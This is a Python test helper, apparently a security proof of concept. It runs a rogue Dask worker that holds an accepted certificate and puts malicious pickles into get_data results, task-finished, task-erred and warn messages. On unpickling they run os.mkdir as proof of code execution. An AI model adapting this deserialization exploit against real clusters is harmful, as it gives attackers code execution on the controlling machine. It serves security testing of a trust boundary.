"""A device gone bad: a real Dask worker holding a real, accepted device certificate, whose
every answer to the main device carries a pickle that would create ``MARKER`` when unpickled.

Run as ``python evil_worker.py SCHEDULER_ADDRESS CA CERT KEY NAME MARKER``. It does what an
attacker who owns a paired device can do with distributed's own protocol:

* task results handed out by ``get_data`` are ``ToPickle`` (``__Pickled__`` sub-frames) and
  ``Serialize`` (pickle-serialized) objects;
* ``task-finished`` carries a poisoned ``type`` (distributed's client unpickles it);
* ``task-erred`` carries the error as raw pickle bytes (``clean_exception`` unpickles bytes);
* a ``warn`` event carries a pickled message (the client's default handler unpickles it).
"""

from __future__ import annotations

import asyncio
import os
import pickle
import sys


class Evil:
    """Unpickling it runs ``os.mkdir(marker)``: proof that code ran where it was unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.mkdir, (self.marker,))


async def main(address: str, ca: str, cert: str, key: str, name: str, marker: str) -> None:
    from distributed import Worker
    from distributed.protocol.serialize import Serialize, ToPickle
    from distributed.security import Security

    evil = pickle.dumps(Evil(marker))
    security = Security(
        require_encryption=True,
        tls_ca_file=ca,
        tls_client_cert=cert,
        tls_client_key=key,
        tls_worker_cert=cert,
        tls_worker_key=key,
    )

    class EvilWorker(Worker):
        async def get_data(self, comm, keys, who=None, serializers=None):
            data = {}
            for i, k in enumerate(keys):
                data[k] = ToPickle(Evil(marker)) if i % 2 == 0 else Serialize(Evil(marker))
            await comm.write({"status": "OK", "data": data})
            await comm.read()
            from distributed.core import Status

            return Status.dont_reply

    worker = EvilWorker(
        address, name=name, nthreads=1, security=security, host="127.0.0.1", protocol="tls",
        dashboard_address="127.0.0.1:0",
    )
    await worker.start()

    original_send = worker.batched_stream.send

    def poisoned_send(*msgs):
        out = []
        for m in msgs:
            if isinstance(m, dict) and m.get("op") == "task-finished":
                m = {**m, "type": evil}
                out.append({"op": "log-event", "topic": "warn",
                            "msg": {"message": evil, "category": evil}})
            elif isinstance(m, dict) and m.get("op") == "task-erred":
                m = {**m, "exception": evil, "traceback": evil}
            out.append(m)
        return original_send(*out)

    worker.batched_stream.send = poisoned_send
    print("EVIL-READY", worker.address, flush=True)
    await worker.finished()


if __name__ == "__main__":
    sys.exit(asyncio.run(main(*sys.argv[1:7])))
